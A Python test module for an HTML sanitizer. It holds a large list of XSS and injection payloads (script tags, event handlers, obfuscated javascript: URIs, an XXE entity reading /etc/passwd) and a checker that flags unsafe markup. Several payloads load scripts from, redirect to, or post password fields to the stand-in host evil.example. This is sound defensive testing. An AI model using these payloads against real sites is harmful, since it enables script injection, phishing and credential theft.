"""Markup that tries to run, to leave the page or to look like the portal; and how to judge it."""

from xml.etree.ElementTree import Element

import html5lib

_HANDLERS = ["onerror", "onload", "onmouseover", "onfocus", "onclick", "ontoggle", "onbegin"]
_ELEMENTS = ["img src=x", "svg", "body", "input autofocus", "details open", "p", "a href=/x", "b"]
_SCHEMES = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "&#106;avascript:alert(1)",
    "&#x6A;avascript:alert(1)",
    "javascript&colon;alert(1)",
    "\x01javascript:alert(1)",
    "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "file:///etc/passwd",
    "blob:https://x/1",
    "feed:javascript:alert(1)",
    "view-source:javascript:alert(1)",
]
_SHAPES = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\x0c>alert(1)</script>",
    "<<script>alert(1)//<</script>",
    "<script>alert(1)",
    "</p><script>alert(1)</script><p>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><animate attributeName=href values=javascript:alert(1)></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x&gt;'>",
    "<math><annotation-xml encoding='text/html'><script>1</script></annotation-xml></math>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<textarea><script>alert(1)</script></textarea>",
    "<title><img src=x onerror=alert(1)></title>",
    "<style>@import '//evil.example/x.css';</style>",
    "<style>p{background:url(javascript:alert(1))}</style>",
    "<p style='position:fixed;inset:0;background:url(//evil.example)'>x</p>",
    "<p style='width:expression(alert(1))'>x</p>",
    "<p class='site-header' id='noi-dung'>x</p>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='data:text/html,<script>1</script>'></object>",
    "<embed src='//evil.example/x.swf'>",
    "<applet code=x></applet>",
    "<base href='//evil.example/'>",
    "<link rel=stylesheet href='//evil.example/x.css'>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<form action='//evil.example'><input name=password><button>OK</button></form>",
    "<button formaction='javascript:alert(1)'>x</button>",
    "<input type=image src=//evil.example onerror=alert(1)>",
    "<select><option><script>alert(1)</script></select>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<table background='javascript:alert(1)'><tr><td>x</table>",
    "<img src='//evil.example/pixel.gif'>",
    "<img src='x' srcset='//evil.example/x 1x'>",
    "<picture><source srcset=//evil.example/x><img></picture>",
    "<a href='//evil.example' target=_blank rel=opener>x</a>",
    "<a href='https://evil.example' ping='//evil.example'>x</a>",
    "<a href='https://evil.example' download>x</a>",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml-stylesheet href='javascript:alert(1)'?>",
    "<!DOCTYPE html [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><p>&x;</p>",
    "<xss:script xmlns:xss='http://www.w3.org/1999/xhtml'>1</xss:script>",
    "<x-widget onclick=alert(1)>x</x-widget>",
    "<p/onclick=alert(1)>x</p>",
    "<p\nonclick\n=\nalert(1)>x</p>",
    "<a href=`javascript:alert(1)`>x</a>",
    '<a href="https://x" "onclick=alert(1)">x</a>',
    "<ol start='1' onclick=alert(1)><li value=9>x</ol>",
    "<p \x00onclick=alert(1)>x</p>",
    "<im\x00g src=x onerror=alert(1)>",
    "\ufeff<script>alert(1)</script>",
    "＜script＞alert(1)＜/script＞",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<p>" * 300 + "<script>alert(1)</script>",
]
STRINGS = [
    *_SHAPES,
    *(f"<{element} {handler}=alert(1)>x" for element in _ELEMENTS for handler in _HANDLERS),
    *(f'<a href="{scheme}">x</a>' for scheme in _SCHEMES),
]
_ALLOWED = {
    **{name: set() for name in ("p", "br", "h2", "h3", "ul", "li", "strong", "em", "blockquote")},
    "ol": {"start"},
    "a": {"href", "title", "rel"},
}
_LINKS = ("http://", "https://", "mailto:", "tel:", "/", "#", "?")


def storable() -> list[str]:
    """Those that PostgreSQL can hold as they are: it takes no NUL."""
    return [markup for markup in STRINGS if "\x00" not in markup]


def faults(html: str) -> list[str]:
    """What a browser would find in `html` beyond plain text structure; judged without nh3."""
    root: Element = html5lib.parseFragment(html, namespaceHTMLElements=False)
    found = []
    for element in list(root.iter())[1:]:
        tag = str(element.tag)
        if tag not in _ALLOWED:
            found.append(f"<{tag}>")
            continue
        found += [f"{tag}[{name}]" for name in element.attrib if name not in _ALLOWED[tag]]
        target = element.get("href", "#")
        # Without a scheme a link stays on the site, whatever it is called.
        if not target.startswith(_LINKS) and ":" in target:
            found.append(f"href {target!r}")
        if tag == "a" and "noopener" not in element.get("rel", ""):
            found.append("a without noopener")
    return found
